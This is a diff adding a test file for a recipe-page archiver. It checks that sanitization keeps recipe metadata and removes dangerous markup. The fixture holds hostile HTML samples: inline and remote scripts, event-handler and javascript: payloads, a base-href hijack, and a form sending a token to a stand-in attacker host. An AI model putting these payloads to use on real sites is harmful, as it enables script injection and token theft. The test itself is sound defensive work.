@@ -1,0 +1,51 @@
+import { test } from '@japa/runner'
+import { packPage, showPage, unpackPage } from './kept_pages.js'
+
+const hostile = `<!doctype html><html lang="en"><head><title>Soup</title>
+<meta property="og:title" content="Soup"><link rel="canonical" href="https://soups.example/1">
+<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">
+<script type="application/ld+json">{"@type":"Recipe","name":"</Soup>"}</script>
+<script>steal()</script><script src="https://evil.example/x.js"></script>
+<style>body{background:url(https://evil.example/a.png)}</style></head>
+<body onload="steal()" style="background:url(https://evil.example/b.png)">
+<h1 class="title" itemprop="name">Soup</h1><a href="javascript:steal()">x</a>
+<form action="https://evil.example"><input name="token" value="SECRET"><button>go</button></form>
+<iframe src="https://evil.example"></iframe><object data="x"></object>
+<svg><script>steal()</script></svg><img src="https://pics.example/a.jpg" onerror="steal()">
+<img src="data:image/png;base64,AAAA"><p>1 &lt; 2 cups</p></body></html>`
+
+const text = (bytes: Uint8Array) => Buffer.from(bytes).toString('utf8')
+
+test.group('Pages that are kept', () => {
+  test('what a recipe is read from stays, what runs, asks or knows a visitor goes', async ({
+    assert,
+  }) => {
+    const packed = (await packPage(hostile)) ?? Buffer.alloc(0)
+    const kept = text(await unpackPage(packed))
+    for (const part of ['ld+json', '"@type":"Recipe"', 'itemprop="name"', 'og:title', 'canonical'])
+      assert.include(kept, part)
+    const shown = text(await showPage(packed))
+    for (const page of [kept, shown]) {
+      for (const part of [
+        'steal',
+        'SECRET',
+        '<form',
+        '<iframe',
+        '<object',
+        'onerror',
+        'a.css',
+        '.js',
+      ])
+        assert.notInclude(page, part)
+      assert.include(page, '1 &lt; 2 cups')
+    }
+    for (const part of ['<script', '<link', 'https://', 'href'])
+      assert.notInclude(shown.slice(shown.indexOf('<body>')), part)
+    assert.include(shown, 'data:image/png')
+  })
+
+  test('a page of ten thousand boxes in one another is kept', async ({ assert }) => {
+    const deep = `${'<div>'.repeat(10_000)}soup${'</div>'.repeat(10_000)}`
+    assert.isNotNull(await packPage(deep))
+  })
+})
